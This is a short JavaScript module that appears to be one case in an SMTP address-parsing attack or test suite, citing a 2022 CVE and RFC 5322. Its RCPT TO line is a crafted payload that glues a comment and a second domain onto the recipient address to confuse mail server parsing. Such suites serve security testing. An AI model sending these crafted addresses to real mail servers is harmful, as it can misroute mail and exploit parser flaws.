import { talk } from '../attack.mjs';

/** Glues a comment into the domain. Source: CVE-2022 address parsing; RFC 5322 section 3.2.2. */
export default talk({
  sent: 0,
  steps: ({ to }) => [
    'EHLO a\r\n',
    'MAIL FROM:<a@example.org>\r\n',
    `RCPT TO:<${to}(x)elsewhere.example>\r\n`,
    'QUIT\r\n',
  ],
});
